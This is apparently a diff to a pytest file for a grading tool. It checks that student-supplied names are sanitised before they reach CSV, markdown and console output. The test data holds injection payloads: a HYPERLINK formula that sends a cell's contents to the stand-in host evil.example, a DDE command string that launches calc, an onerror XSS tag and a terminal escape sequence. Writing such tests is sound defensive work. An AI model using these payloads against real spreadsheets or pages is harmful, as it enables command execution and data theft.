@@ -55,7 +55,7 @@ def rows(folder: Path) -> list[dict]:
 def test_names_never_become_formulas_rows_or_markup(set_dir, answers, capsys):
     evil = '"=HYPERLINK(\\"http://evil.example/?x=\\"&A2,\\"c\\")\\n# Heading\\n<img src=x onerror=alert(1)>"'
     (answers / "evil.yaml").write_text(template(set_dir, evil), encoding="utf-8")
-    (answers / "+cmd.yaml").write_text(template(set_dir, '"@SUM(1+1)"', ident='"-2+3"'), encoding="utf-8")
+    (answers / "+cmd.yaml").write_text(template(set_dir, '"@SUM(1+1)\\n\\x1b[2J# x"', ident='"-2+3"'), encoding="utf-8")
     (answers / "c.csv").write_text("step,row,col,value\nid,,,pre-ln-causal-gelu.2\nname,,,\"+cmd|' /C calc'!A0\"\n",
                                    encoding="utf-8")
     assert main(["grade", str(set_dir), str(answers)]) == 1
@@ -67,7 +67,7 @@ def test_names_never_become_formulas_rows_or_markup(set_dir, answers, capsys):
             assert "\n" not in cell and "\r" not in cell
     by_file = {r["file"]: r for r in book}
     assert by_file["evil.yaml"]["Student"].startswith("'=HYPERLINK(")
-    assert by_file["'+cmd.yaml"]["Student"] == "'@SUM(1+1)" and by_file["'+cmd.yaml"]["worksheet"] == "'-2+3"
+    assert by_file["'+cmd.yaml"]["Student"] == "'@SUM(1+1) \x1b[2J# x" and by_file["'+cmd.yaml"]["worksheet"] == "'-2+3"
     assert by_file["c.csv"]["Student"].startswith("'+cmd|")
     feedback = next(p for p in (answers / "graded" / "feedback").iterdir() if "HYPERLINK" in p.read_text(encoding="utf-8"))
     md = feedback.read_text(encoding="utf-8")
@@ -76,6 +76,8 @@ def test_names_never_become_formulas_rows_or_markup(set_dir, answers, capsys):
     assert not RAW_TAG.search(md) and "\\<img" in title[0]
     summary = (answers / "graded" / "summary.md").read_text(encoding="utf-8")
     assert not RAW_TAG.search(summary) and "\n# Heading" not in summary
+    said = [line for line in capsys.readouterr().out.splitlines() if "@SUM" in line]
+    assert len(said) == 1 and said[0].startswith("not graded: ") and "\x1b" not in said[0]
 
 
 def test_links_and_pipes_among_answers_are_refused_unread(set_dir, answers, tmp_path, capsys):
